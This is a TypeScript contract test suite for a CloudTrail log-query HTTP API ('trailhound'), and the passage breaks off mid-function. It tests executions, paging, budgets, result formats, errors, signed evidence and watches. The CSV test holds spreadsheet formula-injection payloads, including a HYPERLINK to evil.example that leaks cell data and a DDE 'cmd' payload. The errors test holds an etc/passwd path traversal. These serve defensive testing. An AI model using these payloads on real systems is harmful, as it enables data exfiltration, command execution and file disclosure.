/**
 * The contract of API v1, over real HTTP against the local server. It is written once and run
 * against each engine: whatever runs the SQL, a client sees the same answers and the same errors.
 */

import { createHash } from 'node:crypto';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { z } from 'zod';
import { verifyEvidence } from '../../src/lib/evidence/verifyEvidence.js';
import { QUERIES } from '../../src/queries/catalog.js';
import { exampleRequest } from '../../src/queries/queryDefinition.js';
import { API_ROUTES } from '../../src/routes.js';
import { ANSWERS, call, runToEnd } from '../helpers/apiClient.js';
import { logBytesOfDays, rawRecords } from '../helpers/cloudtrailData.js';
import { HOSTILE_STRINGS } from '../helpers/hostileStrings.js';
import { answerProblems } from '../helpers/openApiAnswers.js';
import type { TestServer } from '../helpers/testServer.js';

export interface ContractTarget {
  /** A server over every vendored set (data/cloudtrail plus the doc examples). */
  start(options: { maxConcurrent?: number }): Promise<TestServer>;
  /** Follows a CSV link: a real HTTP fetch for the local server, the S3 double for Athena. */
  download?(url: string): Promise<Response>;
  /** Integrity checks, and executions that verify their logs. */
  readonly integrity: boolean;
  /** Signed evidence: where the target has a key to sign with (both engines' targets do). */
  readonly evidence: boolean;
  /**
   * Where the target's watches may deliver (a receiver whose origin its server allows); absent
   * where the target has no watches (Athena, for now), whose watch routes answer 501.
   */
  watchHook?(): Promise<string>;
}

/** The routes of integrity checks and of evidence, which a target without them answers 501. */
const INTEGRITY_ROUTES = ['startIntegrityCheck', 'getIntegrityCheck'];
const EVIDENCE_ROUTES = ['getEvidence', 'getEvidencePublicKey'];
const WATCH_ROUTES = ['createWatch', 'listWatches', 'getWatch', 'deleteWatch', 'runWatch'];

const invictusDay = { from: '2023-07-10T00:00:00Z', to: '2023-07-11T00:00:00Z' };

const expectProblem = (
  response: { status: number; headers: Headers; body: Record<string, unknown> },
  status: number,
) => {
  expect(response.status).toBe(status);
  expect(response.headers.get('content-type')).toBe('application/problem+json');
  expect(response.body).toMatchObject({ status, title: expect.any(String), detail: expect.any(String) });
  expect(JSON.stringify(response.body)).not.toMatch(/\bat .+\.(ts|js):\d+/);
};

const poll = async (baseUrl: string, executionId: string) => {
  for (let i = 0; i < 200; i += 1) {
    const response = await call(baseUrl, 'GET', `/v1/executions/${executionId}`);
    if (['SUCCEEDED', 'FAILED', 'CANCELLED'].includes(response.body.state)) return response;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error('execution did not end');
};

export const defineContractSuite = (engine: string, target: ContractTarget) => {
  describe(`API v1 contract on ${engine}`, () => {
    let server: TestServer;
    let base: string;
    beforeAll(async () => {
      server = await target.start({});
      base = server.baseUrl;
    });
    afterAll(async () => server.close());

    describe('catalog and health', () => {
      it('GET /health answers ok', async () => {
        const response = await call(base, 'GET', '/health');
        expect(response.status).toBe(200);
        expect(response.body.status).toBe('ok');
      });

      it('GET /v1/queries lists each query with a JSON Schema and a runnable example', async () => {
        const response = await call(base, 'GET', '/v1/queries');
        expect(response.status).toBe(200);
        const names = response.body.queries.map((q: { name: string }) => q.name);
        expect(names).toEqual(
          expect.arrayContaining([
            'security-group-ingress',
            'principal-activity',
            'iam-user-provenance',
            'mentions',
          ]),
        );
        for (const query of response.body.queries) {
          expect(query.parameters).toMatchObject({ type: 'object', properties: expect.any(Object) });
          const run = await runToEnd(base, query.example.request);
          expect(run.rows.length, `${query.name} example answers on the sample`).toBeGreaterThan(0);
        }
      });
    });

    describe('detections and the OpenAPI document', () => {
      it('GET /v1/detections lists the detections the sweep runs', async () => {
        const response = await call(base, 'GET', '/v1/detections');
        expect(response.status).toBe(200);
        expect(response.body.detections.length).toBeGreaterThanOrEqual(40);
      });

      it('GET /v1/openapi.json serves the document, with every route of this API', async () => {
        const response = await call(base, 'GET', '/v1/openapi.json');
        expect(response.status).toBe(200);
        expect(response.body.openapi).toBe('3.1.0');
        expect(Object.keys(response.body.paths).sort()).toEqual(
          [...new Set(API_ROUTES.map((r) => r.resource))].sort(),
        );
      });
    });

    describe('executions', () => {
      it('POST without wait answers 202 with a Location, and the execution runs to SUCCEEDED', async () => {
        const response = await call(base, 'POST', '/v1/executions', {
          query: 'principal-activity',
          parameters: { userName: 'bert-jan' },
          ...invictusDay,
        });
        expect(response.status).toBe(202);
        expect(response.body).toEqual({
          executionId: expect.any(String),
          state: expect.stringMatching(/QUEUED|RUNNING/),
        });
        expect(response.headers.get('location')).toBe(`/v1/executions/${response.body.executionId}`);
        const done = await poll(base, response.body.executionId);
        expect(done.body).toMatchObject({
          executionId: response.body.executionId,
          query: 'principal-activity',
          state: 'SUCCEEDED',
          submittedAt: expect.any(String),
          completedAt: expect.any(String),
          statistics: { bytesScanned: expect.any(Number), engineMs: expect.any(Number) },
        });
        expect(done.body.statistics.bytesScanned).toBeGreaterThan(0);
      });

      it('POST with wait answers 200 with the first page inline', async () => {
        const response = await call(base, 'POST', '/v1/executions?wait=20', {
          query: 'iam-user-provenance',
          parameters: { userName: 'malicious-iam-user' },
          ...invictusDay,
        });
        expect(response.status).toBe(200);
        expect(response.body.state).toBe('SUCCEEDED');
        expect(response.body.results.rows.map((r: { eventname: string }) => r.eventname)).toEqual([
          'CreateUser',
          'AttachUserPolicy',
          'CreateAccessKey',
          'DeleteAccessKey',
          'DetachUserPolicy',
          'DeleteUser',
        ]);
        expect(response.body.results.columns).toContainEqual({ name: 'admin_policy', type: 'boolean' });
      });

      it('an Idempotency-Key makes a retried POST return the first execution', async () => {
        const request = { query: 'mentions', parameters: { text: 'bert-jan' }, ...invictusDay };
        const key = { 'Idempotency-Key': `ticket-4711-${Date.now()}-retry-safe-key-0001` };
        const first = await call(base, 'POST', '/v1/executions', request, key);
        const again = await call(base, 'POST', '/v1/executions', request, key);
        const other = await call(base, 'POST', '/v1/executions', request);
        expect(again.body.executionId).toBe(first.body.executionId);
        expect(other.body.executionId).not.toBe(first.body.executionId);
        expectProblem(
          await call(base, 'POST', '/v1/executions', request, { 'Idempotency-Key': 'short' }),
          400,
        );
      });

      it('pages several thousand rows with limit=1000: every row exactly once', async () => {
        // alucloud171 made 3,654 calls in June 2017 (grycap set), counted in the raw JSON.
        const expected = rawRecords('grycap-research-account')
          .filter((r) => r.userIdentity.userName === 'alucloud171')
          .map((r) => r.eventID as string);
        expect(expected).toHaveLength(3654);
        const { rows, pages } = await runToEnd(
          base,
          {
            query: 'principal-activity',
            parameters: { userName: 'alucloud171' },
            from: '2017-06-01T00:00:00Z',
            to: '2017-07-01T00:00:00Z',
          },
          1000,
        );
        expect(pages).toBe(4);
        const ids = rows.map((r) => r.eventid as string);
        expect(new Set(ids).size).toBe(ids.length);
        expect(ids.sort()).toEqual(expected.sort());
      });

      it('refuses a nextToken that is not one of this execution', async () => {
        const run = await runToEnd(
          base,
          { query: 'mentions', parameters: { text: 'bert-jan' }, ...invictusDay },
          10,
        );
        const id = run.execution.body.executionId;
        expectProblem(await call(base, 'GET', `/v1/executions/${id}/results?nextToken=garbage`), 400);
      });

      it('DELETE cancels a queued execution, and refuses to cancel one that ended', async () => {
        const busy = await target.start({ maxConcurrent: 1 });
        try {
          const long = {
            query: 'mentions',
            parameters: { text: 'amazonaws' },
            from: '2017-06-01T00:00:00Z',
            to: '2018-06-01T00:00:00Z',
          };
          const first = await call(busy.baseUrl, 'POST', '/v1/executions', long);
          const second = await call(busy.baseUrl, 'POST', '/v1/executions', long);
          const cancelled = await call(busy.baseUrl, 'DELETE', `/v1/executions/${second.body.executionId}`);
          expect(cancelled.status).toBe(200);
          expect(cancelled.body.state).toBe('CANCELLED');
          expectProblem(
            await call(busy.baseUrl, 'GET', `/v1/executions/${second.body.executionId}/results`),
            409,
          );
          const finished = await poll(busy.baseUrl, first.body.executionId);
          expect(finished.body.state).toBe('SUCCEEDED');
          expectProblem(await call(busy.baseUrl, 'DELETE', `/v1/executions/${first.body.executionId}`), 409);
        } finally {
          await busy.close();
        }
      });
    });

    describe('dry runs and budgets', () => {
      const request = { query: 'principal-activity', parameters: { userName: 'bert-jan' }, ...invictusDay };

      it('a dry run validates, estimates and starts nothing', async () => {
        const start = vi.spyOn(server.runtime.engine, 'start');
        try {
          const dry = await call(base, 'POST', '/v1/executions', { ...request, dryRun: true });
          expect(dry.status).toBe(200);
          expect(dry.body).toMatchObject({
            dryRun: true,
            query: 'principal-activity',
            window: invictusDay,
            estimate: {
              bytesScanned: expect.any(Number),
              files: expect.any(Number),
              days: { compacted: expect.any(Number), raw: expect.any(Number) },
              costUsd: expect.any(Number),
            },
            wouldStart: true,
          });
          // Athena bills 10 MB at least: 5 USD per TB of it.
          expect(dry.body.estimate.costUsd).toBe(0.00005);
          // The window is 2023-07-10 with the day of delivery slack: two day folders, read from disk.
          if (dry.body.estimate.days.compacted === 0) {
            expect(dry.body.estimate.bytesScanned).toBe(logBytesOfDays('2023/07/10', '2023/07/11'));
          }
          // Invalid as a real submission is invalid: the same 400.
          const bad = await call(base, 'POST', '/v1/executions', {
            ...request,
            parameters: { userName: 'bert-jan', arn: 'arn:aws:iam::123456789012:user/x' },
            dryRun: true,
          });
          expectProblem(bad, 400);
          expect(start).not.toHaveBeenCalled();
        } finally {
          start.mockRestore();
        }
      });

      it.each(QUERIES.map((q) => [q.name, q]))(
        '%s: the dry run estimates exactly what its execution then reports',
        async (_name, query) => {
          const dry = await call(base, 'POST', '/v1/executions', { ...exampleRequest(query), dryRun: true });
          expect(dry.status).toBe(200);
          const run = await runToEnd(base, exampleRequest(query));
          const { statistics } = run.execution.body;
          expect(statistics.bytesScanned).toBe(dry.body.estimate.bytesScanned);
          expect(statistics.estimatedBytesScanned).toBe(dry.body.estimate.bytesScanned);
          expect(statistics.days ?? dry.body.estimate.days).toEqual(dry.body.estimate.days);
        },
      );

      it('refuses, 422 with the estimate, a submission over its budget; under it, it runs', async () => {
        const { body } = await call(base, 'POST', '/v1/executions', { ...request, dryRun: true });
        const bytes: number = body.estimate.bytesScanned;
        expect(bytes).toBeGreaterThan(1);
        const start = vi.spyOn(server.runtime.engine, 'start');
        try {
          const over = await call(base, 'POST', '/v1/executions', { ...request, maxBytesScanned: bytes - 1 });
          expectProblem(over, 422);
          expect(over.body).toMatchObject({
            type: 'urn:trailhound:problem:budget-exceeded',
            maxBytesScanned: bytes - 1,
            estimate: { bytesScanned: bytes, costUsd: expect.any(Number) },
          });
          const dryOver = await call(base, 'POST', '/v1/executions', {
            ...request,
            maxBytesScanned: bytes - 1,
            dryRun: true,
          });
          expect(dryOver.body).toMatchObject({ maxBytesScanned: bytes - 1, wouldStart: false });
          expect(start).not.toHaveBeenCalled();
        } finally {
          start.mockRestore();
        }
        const under = await call(base, 'POST', '/v1/executions?wait=20', {
          ...request,
          maxBytesScanned: bytes,
        });
        expect(under.status).toBe(200);
        expect(under.body.state).toBe('SUCCEEDED');
        expect(under.body.statistics).toMatchObject({ bytesScanned: bytes, estimatedBytesScanned: bytes });
        expectProblem(await call(base, 'POST', '/v1/executions', { ...request, maxBytesScanned: 0 }), 400);
      });
    });

    describe('cases: labels and listing', () => {
      const label = `INC-${Date.now()}/sec#${Math.floor(Math.random() * 1e6)}`;
      const started: string[] = [];
      beforeAll(async () => {
        const requests: Record<string, unknown>[] = [
          { query: 'mentions', parameters: { text: 'bert-jan' }, ...invictusDay, label },
          { query: 'principal-activity', parameters: { userName: 'bert-jan' }, ...invictusDay, label },
          { query: 'mentions', parameters: { text: 'malicious' }, ...invictusDay },
        ];
        for (const request of requests) {
          const response = await call(base, 'POST', '/v1/executions', request);
          expect(response.status).toBe(202);
          expect(response.headers.get('retry-after')).toBe('1');
          started.push(response.body.executionId);
          if (request.label) expect(response.body.label).toBe(label);
          await poll(base, response.body.executionId);
        }
      });
      const listing = (query: Record<string, string>) =>
        call(base, 'GET', `/v1/executions?${new URLSearchParams(query)}`);

      it('finds the executions of a label, newest first, each with its label, state and statistics', async () => {
        const found = await listing({ label });
        expect(found.status).toBe(200);
        expect(found.body.executions.map((e: { executionId: string }) => e.executionId)).toEqual([
          started[1],
          started[0],
        ]);
        for (const execution of found.body.executions) {
          expect(execution).toMatchObject({
            label,
            state: 'SUCCEEDED',
            submittedAt: expect.any(String),
            statistics: { bytesScanned: expect.any(Number) },
          });
        }
        const one = await call(base, 'GET', `/v1/executions/${started[0]}`);
        expect(one.body.label).toBe(label);
        const other = await call(base, 'GET', `/v1/executions/${started[2]}`);
        expect(other.body).not.toHaveProperty('label');
      });

      it('filters by query and state as well, and pages with nextToken, each execution once', async () => {
        const byQuery = await listing({ label, query: 'principal-activity' });
        expect(byQuery.body.executions.map((e: { executionId: string }) => e.executionId)).toEqual([
          started[1],
        ]);
        expect((await listing({ label, state: 'FAILED' })).body.executions).toEqual([]);
        const seen: string[] = [];
        let token: string | undefined;
        do {
          const page = await listing({ label, limit: '1', ...(token ? { nextToken: token } : {}) });
          expect(page.status).toBe(200);
          expect(page.body.executions.length).toBeLessThanOrEqual(1);
          seen.push(...page.body.executions.map((e: { executionId: string }) => e.executionId));
          token = page.body.nextToken;
        } while (token);
        expect(seen).toEqual([started[1], started[0]]);
      });

      it('refuses a bad label, state, limit, unknown filter or foreign nextToken with 400', async () => {
        const bad: Record<string, string>[] = [
          { label: 'has space' },
          { state: 'DONE' },
          { limit: '0' },
          { lable: label },
          { nextToken: 'garbage' },
        ];
        for (const query of bad) {
          expectProblem(await listing(query), 400);
        }
        expectProblem(
          await call(base, 'POST', '/v1/executions', {
            query: 'mentions',
            parameters: { text: 'bert-jan' },
            ...invictusDay,
            label: 'x'.repeat(129),
          }),
          400,
        );
      });

      it('names the CSV file after the label too', async () => {
        const link = await call(base, 'GET', `/v1/executions/${started[0]}/csv`);
        const download = await (target.download ?? fetch)(link.body.url);
        const safe = label.replaceAll(/[/:#]/g, '-');
        expect(download.headers.get('content-disposition')).toBe(
          `attachment; filename="trailhound_${safe}_mentions_20230710T000000Z-20230711T000000Z_${started[0]?.slice(0, 8)}.csv"`,
        );
      });
    });

    describe('result formats', () => {
      let executionId: string;
      let rows: Record<string, unknown>[];
      let columns: { name: string; type: string }[];
      beforeAll(async () => {
        // 2,642 events of bert-jan: three JSON pages of 1,000.
        const run = await runToEnd(
          base,
          { query: 'principal-activity', parameters: { userName: 'bert-jan' }, ...invictusDay },
          1000,
        );
        executionId = run.execution.body.executionId;
        rows = run.rows;
        columns = run.columns as typeof columns;
        expect(rows).toHaveLength(2642);
      });
      const results = (accept: string, query = '') =>
        fetch(`${base}/v1/executions/${executionId}/results${query}`, { headers: { accept } });

      it('text/csv: a header and every row, the JSON rows as text, safe for spreadsheets', async () => {
        const response = await results('text/csv');
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
        expect(response.headers.get('link')).toBeNull();
        const [header, ...body] = parseCsv(await response.text(), {
          relax_column_count: false,
        }) as string[][];
        expect(header).toEqual(columns.map((c) => c.name));
        expect(body).toEqual(
          rows.map((row) =>
            columns.map((c) => {
              const value = row[c.name];
              if (value === null) return '';
              const cell = String(value);
              return typeof value === 'string' && /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell))
                ? `'${cell}`
                : cell;
            }),
          ),
        );
      });

      it('application/x-ndjson: every row, one JSON object a line, exactly the JSON rows', async () => {
        const response = await results('application/x-ndjson');
        expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
        const lines = (await response.text()).split('\n');
        expect(lines.pop()).toBe('');
        expect(lines.map((line) => JSON.parse(line))).toEqual(rows);
      });

      it('text/markdown: a summary line and the page as a table, with a link to the next page', async () => {
        const response = await results('text/markdown', '?limit=3');
        expect(response.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
        const [summary, blank, head, rule, ...table] = (await response.text()).trimEnd().split('\n');
        expect(summary).toContain('**principal-activity**');
        expect(summary).toContain('3 rows, more on the next page');
        expect(blank).toBe('');
        expect(head).toBe(`| ${columns.map((c) => c.name).join(' | ')} |`);
        expect(rule).toBe(`|${columns.map(() => '---').join('|')}|`);
        expect(table).toHaveLength(3);
        expect(table[0]).toContain(String(rows[0]?.eventid));
        expect(response.headers.get('link')).toMatch(
          /^<\/v1\/executions\/[^>]+nextToken=[^>]+>; rel="next"$/,
        );
      });

      it('answers JSON by default and for */*, and 406 for a format it does not have', async () => {
        expect((await results('*/*', '?limit=2')).headers.get('content-type')).toBe('application/json');
        const refused = await results('application/xml');
        expect(refused.status).toBe(406);
        expect(await refused.json()).toMatchObject({
          status: 406,
          available: expect.arrayContaining(['text/csv']),
        });
      });
    });

    describe('CSV download', () => {
      it('303 to a signed link that serves the whole result as an attachment', async () => {
        const run = await runToEnd(base, {
          query: 'security-group-ingress',
          parameters: { groupId: 'sg-04cfb7a4712d75b00' },
          ...invictusDay,
        });
        const id = run.execution.body.executionId;
        const link = await call(base, 'GET', `/v1/executions/${id}/csv`);
        expect(link.status).toBe(303);
        expect(link.headers.get('location')).toBe(link.body.url);
        expect(Date.parse(link.body.expiresAt) - Date.now()).toBeGreaterThan(14 * 60_000);
        const download = await (target.download ?? fetch)(link.body.url);
        expect(download.status).toBe(200);
        expect(download.headers.get('content-type')).toMatch(/^text\/csv/);
        expect(download.headers.get('content-disposition')).toMatch(
          /^attachment; filename="trailhound_security-group-ingress_20230710T000000Z-20230711T000000Z_[0-9a-f]{8}\.csv"$/,
        );
        const lines = (await download.text()).trimEnd().split('\n');
        expect(lines[0]).toBe(
          `"${run.execution.body.results.columns.map((c: { name: string }) => c.name).join('","')}"`,
        );
        expect(lines).toHaveLength(3);
        expect(lines[2]).toContain('"74bd84b4-6729-4895-b2a4-e2beb7c6b377"');
      });
    });

    describe('CSV for spreadsheets', () => {
      it('neutralizes every cell a spreadsheet would run as a formula, and only in the CSV', async () => {
        const run = await runToEnd(base, {
          query: 'events',
          parameters: { eventNames: ['GetCallerIdentity'] },
          from: '2024-03-06T00:00:00Z',
          to: '2024-03-07T00:00:00Z',
          accounts: ['111122223333'],
        });
        // The JSON pages keep the values as recorded.
        expect(run.rows.map((r) => r.user_agent)).toContain(
          '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        );
        const link = await call(base, 'GET', `/v1/executions/${run.execution.body.executionId}/csv`);
        const cells = parseCsv(await (await (target.download ?? fetch)(link.body.url)).text()).flat();
        expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
        expect(cells).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
        expect(cells).toContain("'+cmd");
        expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual(
          [],
        );
      });
    });

    describe('errors are problem+json', () => {
      const valid = { query: 'principal-activity', parameters: { userName: 'bert-jan' }, ...invictusDay };

      it('404 for an unknown query, naming the known ones', async () => {
        const response = await call(base, 'POST', '/v1/executions', { ...valid, query: 'drop-tables' });
        expectProblem(response, 404);
        expect(response.body.detail).toContain('principal-activity');
      });

      it('404 for an unknown or malformed execution id, and for an unknown route', async () => {
        expectProblem(await call(base, 'GET', '/v1/executions/00000000-0000-4000-8000-000000000000'), 404);
        expectProblem(await call(base, 'GET', '/v1/executions/..%2F..%2Fetc%2Fpasswd'), 404);
        expectProblem(await call(base, 'GET', '/v1/executions/not-an-id/results'), 404);
        expectProblem(await call(base, 'GET', '/v2/queries'), 404);
      });

      it('405 with Allow for a wrong method', async () => {
        const response = await call(base, 'PUT', '/v1/queries');
        expectProblem(response, 405);
        expect(response.headers.get('allow')).toBe('GET');
      });

      it('400 with one entry per invalid field', async () => {
        const response = await call(base, 'POST', '/v1/executions?wait=99', {
          query: 'security-group-ingress',
          parameters: { groupId: 'sg-nothex', port: 70000, cidr: 'everywhere' },
          from: 'yesterday',
        });
        expectProblem(response, 400);
        // The parameters' problems too, though the window is malformed: every problem at once.
        const pointers = response.body.errors.map((e: { pointer: string }) => e.pointer).sort();
        expect(pointers).toEqual([
          '#/body/from',
          '#/body/parameters/cidr',
          '#/body/parameters/groupId',
          '#/body/parameters/port',
          '#/query/wait',
        ]);
        const second = await call(base, 'POST', '/v1/executions', {
          query: 'security-group-ingress',
          parameters: { groupId: 'sg-nothex', port: 70000, cidr: 'everywhere' },
          ...invictusDay,
        });
        expect(second.body.errors.map((e: { pointer: string }) => e.pointer).sort()).toEqual([
          '#/body/parameters/cidr',
          '#/body/parameters/groupId',
          '#/body/parameters/port',
        ]);
      });

      it('400 for unknown parameters, a body that is not JSON, a reversed or too long window', async () => {
        const unknown = await call(base, 'POST', '/v1/executions', {
          ...valid,
          parameters: { userName: 'x', sql: '1=1' },
        });
        expectProblem(unknown, 400);
        expectProblem(await call(base, 'POST', '/v1/executions', '{"query": '), 400);
        const reversed = await call(base, 'POST', '/v1/executions', {
          ...valid,
          from: valid.to,
          to: valid.from,
        });
        expect(reversed.body.errors).toEqual([
          { pointer: '#/body/to', detail: '`to` must be later than `from`' },
        ]);
        const long = await call(base, 'POST', '/v1/executions', {
          ...valid,
          from: '2014-01-01T00:00:00Z',
          to: '2018-01-01T00:00:00Z',
        });
        expectProblem(long, 400);
        expect(long.body.errors[0].detail).toMatch(/at most 366 days/);
        expectProblem(await call(base, 'POST', '/v1/executions', { ...valid, accounts: ['12345'] }), 400);
      });

      it('400 when neither or both of a pair of exclusive parameters is given', async () => {
        const neither = await call(base, 'POST', '/v1/executions', { ...valid, parameters: {} });
        expectProblem(neither, 400);
        const both = await call(base, 'POST', '/v1/executions', {
          ...valid,
          parameters: { userName: 'a', accessKeyId: 'AKIATFQR7NSC8Q4X20BJ' },
        });
        expectProblem(both, 400);
      });
    });

    describe('hostile values', () => {
      // Every string parameter of every query in the catalog (and string lists, item by item).
      const companions: Record<string, Record<string, unknown>> = {
        'security-group-ingress.cidr': { groupId: 'sg-04cfb7a4712d75b00' },
      };
      const stringParameters: [string, string, Record<string, unknown>, boolean][] = QUERIES.flatMap((q) => {
        const schema = z.toJSONSchema(q.parameters, { io: 'input', unrepresentable: 'any' }) as {
          properties?: Record<string, { type?: string; items?: { type?: string }; anyOf?: unknown[] }>;
        };
        return Object.entries(schema.properties ?? {})
          .filter(([, p]) => p.type === 'string' || p.anyOf || p.items?.type === 'string')
          .map(([name, p]): [string, string, Record<string, unknown>, boolean] => [
            q.name,
            name,
            companions[`${q.name}.${name}`] ?? {},
            p.type === 'array',
          ]);
      });

      it('covers every string parameter of the catalog', () => {
        expect(stringParameters.length).toBeGreaterThan(25);
        expect(stringParameters.map(([q, n]) => `${q}.${n}`)).toEqual(
          expect.arrayContaining([
            'mentions.text',
            'events.eventNames',
            'source-ip-activity.cidr',
            's3-exposure.bucketName',
          ]),
        );
      });

      it.each(stringParameters)(
        '%s.%s: every hostile string gets a 400 or is matched literally',
        async (query, name, rest, isList) => {
          const baseline = await call(base, 'POST', '/v1/executions?wait=20', {
            query: 'mentions',
            parameters: { text: 'bert-jan' },
            ...invictusDay,
          });
          let scanned: number | undefined;
          for (const value of [...HOSTILE_STRINGS, 'a\u0000b']) {
            const response = await call(base, 'POST', '/v1/executions?wait=20', {
              query,
              parameters: { ...rest, [name]: isList ? [value] : value },
              ...invictusDay,
            });
            if (response.status === 400) {
              expectProblem(response, 400);
              continue;
            }
            expect(response.status, `${name}=${JSON.stringify(value.slice(0, 30))}`).toBe(200);
            expect(response.body.state).toBe('SUCCEEDED');
            // Whatever the value, the query read the same files and columns (what the window
            // allows), and any row it found holds the text itself.
            scanned ??= response.body.statistics.bytesScanned;
            expect(response.body.statistics.bytesScanned).toBe(scanned);
            for (const row of response.body.results.rows) {
              expect(JSON.stringify(Object.values(row)).toLowerCase()).toContain(
                JSON.stringify(value).slice(1, -1).toLowerCase(),
              );
            }
          }
          // The table is intact: the same question has the same answer.
          const after = await call(base, 'POST', '/v1/executions?wait=20', {
            query: 'mentions',
            parameters: { text: 'bert-jan' },
            ...invictusDay,
          });
          expect(after.body.results.rows).toEqual(baseline.body.results.rows);
        },
      );
    });

    describe('integrity checks and signed evidence', () => {
      const sampleAccount = { ...invictusDay, accounts: ['123837392027'] };
      if (target.integrity) {
        it("verifies the sample's logs, an execution that asks, and signs its evidence where the target signs", async () => {
          const check = await call(base, 'POST', '/v1/integrity-checks?wait=20', sampleAccount);
          expect(check.body).toMatchObject({
            state: 'SUCCEEDED',
            verdict: 'intact',
            summary: { logFiles: { valid: 1 } },
          });
          expect((await call(base, 'GET', `/v1/integrity-checks/${check.body.checkId}`)).status).toBe(200);
          const run = await call(base, 'POST', '/v1/executions?wait=20', {
            query: 'events',
            parameters: { eventNames: ['CreateUser'] },
            verifyIntegrity: true,
            ...sampleAccount,
          });
          expect(run.body.statistics.integrity).toMatchObject({ verdict: 'intact' });
          expect(run.body.warnings).toBeUndefined();
          const evidence = await call(base, 'GET', `/v1/executions/${run.body.executionId}/evidence`);
          if (!target.evidence) {
            expectProblem(evidence, 501);
            expectProblem(await call(base, 'GET', '/v1/evidence/public-key'), 501);
            return;
          }
          expect(evidence.body.manifest.sources).toEqual([
            expect.objectContaining({
              key: expect.stringContaining('123837392027_CloudTrail_us-east-1_20230710T1237Z'),
              verdict: 'valid',
              // Raw, or from the columnar store for a compacted day: listed by the raw file either way.
              readFrom: expect.stringMatching(/^(raw|compacted)$/),
            }),
          ]);
          // The manifest states the request as asked and the result as downloaded.
          expect(evidence.body.manifest).toMatchObject({
            executionId: run.body.executionId,
            query: 'events',
            parameters: { eventNames: ['CreateUser'] },
            window: { ...invictusDay, accounts: ['123837392027'] },
            integrity: { verdict: 'intact' },
          });
          const link = await call(base, 'GET', `/v1/executions/${run.body.executionId}/csv`);
          const csv = Buffer.from(await (await (target.download ?? fetch)(link.body.url)).arrayBuffer());
          expect(evidence.body.manifest.result).toEqual({
            rows: parseCsv(csv, { columns: true }).length,
            csvSha256: createHash('sha256').update(csv).digest('hex'),
          });
          expect(evidence.body.manifest.result.rows).toBe(run.body.results.rows.length);
          expect(evidence.body.manifest.result.rows).toBeGreaterThan(0);
          const publicKey = (await call(base, 'GET', '/v1/evidence/public-key')).body;
          expect(publicKey).toMatch(/^-----BEGIN PUBLIC KEY-----/);
          // The signature holds with the key the API serves, and the CSV is the result.
          expect(verifyEvidence(evidence.body, publicKey, csv)).toMatchObject({ ok: true });
        });
      } else {
        it('answers the routes with 501, and refuses verifyIntegrity with 501, starting nothing', async () => {
          expectProblem(await call(base, 'POST', '/v1/integrity-checks', sampleAccount), 501);
          expectProblem(
            await call(base, 'GET', '/v1/integrity-checks/00000000-0000-4000-8000-000000000000'),
            501,
          );
          expectProblem(await call(base, 'GET', '/v1/evidence/public-key'), 501);
          const before = (await call(base, 'GET', '/v1/executions?limit=100')).body.executions.length;
          expectProblem(
            await call(base, 'POST', '/v1/executions', {
              query: 'events',
              parameters: {},
              verifyIntegrity: true,
              ...invictusDay,
            }),
            501,
          );
          expect((await call(base, 'GET', '/v1/executions?limit=100')).body.executions.length).toBe(before);
          const run = await call(base, 'POST', '/v1/executions?wait=20', {
            query: 'events',
            parameters: {},
            ...invictusDay,
          });
          expectProblem(await call(base, 'GET', `/v1/executions/${run.body.executionId}/evidence`), 501);
        });
      }
    });

    describe('watches', () => {
      const watchHook = target.watchHook;
      if (watchHook) {
        it('makes, lists, shows, runs and deletes a watch; its runs are executions labelled with it', async () => {
          const made = await call(base, 'POST', '/v1/watches', {
            query: 'principal-activity',
            parameters: { userName: 'bert-jan' },
            every: 'PT1H',
            notify: { url: await watchHook() },
            label: 'contract',
          });
          expect(made.status).toBe(201);
          expect(made.body).toMatchObject({
            query: 'principal-activity',
            every: 'PT1H',
            lookback: 'PT1H30M',
          });
          const path = `/v1/watches/${made.body.watchId}`;
          expect(made.headers.get('location')).toBe(path);
          const listed = await call(base, 'GET', '/v1/watches');
          expect(listed.body.watches.map((w: { watchId: string }) => w.watchId)).toContain(made.body.watchId);
          // Its first run is due at once: the schedule starts it. Wait for it to end, so that the
          // run by request below is the last (a run by request before the schedule's look would
          // leave the first slot due, and the schedule would run it after).
          let first = await call(base, 'GET', path);
          for (let i = 0; (first.body.running || !first.body.lastRun) && i < 400; i += 1) {
            await new Promise((resolve) => setTimeout(resolve, 50));
            first = await call(base, 'GET', path);
          }
          expect(first.body.lastRun).toMatchObject({ trigger: 'schedule', state: 'SUCCEEDED' });
          const run = await call(base, 'POST', `${path}/runs`);
          expect(run.status).toBe(202);
          const ended = await poll(base, run.body.executionId);
          expect(ended.body).toMatchObject({ label: `watch:${made.body.watchId}`, state: 'SUCCEEDED' });
          for (let i = 0; (await call(base, 'GET', path)).body.running && i < 200; i += 1) {
            await new Promise((resolve) => setTimeout(resolve, 50));
          }
          const shown = await call(base, 'GET', path);
          expect(shown.status).toBe(200);
          expect(shown.body.lastRun).toMatchObject({ executionId: run.body.executionId, state: 'SUCCEEDED' });
          expect((await call(base, 'DELETE', path)).status).toBe(204);
          expectProblem(await call(base, 'GET', path), 404);
        });
      } else {
        it('answers 501 on every watch route where the target has none', async () => {
          const id = '00000000-0000-4000-8000-000000000000';
          const body = { query: 'sweep', every: 'PT1H', notify: { url: 'https://hooks.example.com/x' } };
          expectProblem(await call(base, 'POST', '/v1/watches', body), 501);
          expectProblem(await call(base, 'GET', '/v1/watches'), 501);
          expectProblem(await call(base, 'GET', `/v1/watches/${id}`), 501);
          expectProblem(await call(base, 'POST', `/v1/watches/${id}/runs`), 501);
          expectProblem(await call(base, 'DELETE', `/v1/watches/${id}`), 501);
        });
      }
    });

    describe('the OpenAPI document', () => {
      it('describes every answer this suite received: its status, content type and body', () => {
        const routes = API_ROUTES.map((route) => ({
          route,
          pattern: new RegExp(`^${route.resource.replaceAll(/\{\w+\}/g, '[^/]+')}$`),
        }));
        const checked = new Set<string>();
        for (const answer of ANSWERS) {
          const path = answer.path.split('?')[0] ?? '';
          const match = routes.find(
